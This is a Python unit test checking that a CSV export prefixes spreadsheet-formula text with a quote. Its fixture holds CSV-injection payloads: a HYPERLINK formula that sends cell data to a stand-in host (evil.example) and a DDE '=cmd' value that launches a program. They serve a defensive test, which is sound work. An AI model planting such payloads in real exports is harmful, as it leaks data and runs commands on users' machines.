"""CSV exports are opened in spreadsheets: a client's text must never arrive there as a formula."""

from __future__ import annotations

import csv
import io

from opsgate.store.export import EXPORT_COLUMNS, _csv


def test_client_text_that_reads_as_a_formula_is_quoted() -> None:
    record = {
        "id": "r1",
        "user_id": "=1+2",
        "input_text": '=HYPERLINK("https://evil.example/?q="&A1, "click")',
        "model": "@SUM(A1:A9)",
        "output_text": "-2+3",
        "request": {"messages": [{"role": "user", "content": "=cmd|' /C calc'!A0"}]},
        "latency_ms": -1.5,
        "status": 200,
    }
    rows = list(csv.DictReader(io.StringIO(b"".join(_csv([record])).decode())))
    assert len(rows) == 1 and list(rows[0]) == list(EXPORT_COLUMNS)
    row = rows[0]
    assert row["user_id"] == "'=1+2"
    assert row["input_text"].startswith("'=HYPERLINK(")
    assert row["model"] == "'@SUM(A1:A9)" and row["output_text"] == "'-2+3"
    assert row["request"].startswith("{")  # JSON text starts with a brace: never a formula
    assert row["latency_ms"] == "-1.5" and row["status"] == "200"  # numbers stay numbers
    assert row["id"] == "r1"
